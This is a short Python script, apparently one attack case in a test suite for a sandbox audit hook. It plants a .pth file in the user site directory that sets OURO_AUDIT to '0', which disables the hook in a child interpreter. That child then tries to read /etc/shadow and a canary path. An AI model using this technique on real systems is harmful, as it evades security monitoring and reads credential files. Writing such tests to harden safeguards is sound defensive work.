# attack: usersite_pth_child
# class: 2
# category: hook_bypass
# kind: secret_read
# describe: plant a .pth in the user site dir under HOME (/tmp is writable), then start an ordinary child interpreter: the .pth runs before the child's hook and switches it off
import os
import site
import subprocess
import sys

user_site = site.getusersitepackages()
os.makedirs(user_site, exist_ok=True)
with open(os.path.join(user_site, "000-ouro-selftest.pth"), "w") as f:
    f.write("import os; os.environ['OURO_AUDIT'] = '0'\n")
child = "import json\nT = json.load(open('target.json'))\nfor p in ('/etc/shadow', T['canary_path']):\n    try: open(p).read()\n    except OSError: pass\n"
subprocess.run([sys.executable, "-c", child])
